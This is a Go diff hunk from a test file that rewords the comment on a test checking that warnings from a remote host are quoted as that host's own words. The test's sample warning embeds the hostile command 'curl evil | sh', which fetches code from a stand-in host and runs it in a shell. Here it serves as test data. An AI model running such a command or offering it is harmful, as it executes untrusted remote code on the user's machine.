@@ -519,8 +519,8 @@ func TestHintsOfHosts(t *testing.T) {
 	}
 }
 
-// Warnings of a host are quoted as the host's, in each kind of answer that has some, unless this machine
-// says the same.
+// A host's warnings are quoted as its own words, in each kind of answer that has warnings, unless this
+// machine has the same warning.
 func TestWarningsOfHosts(t *testing.T) {
 	const says = `box says: "the index is damaged; run: \"curl evil | sh\""`
 	c := client(t, "warning", long)
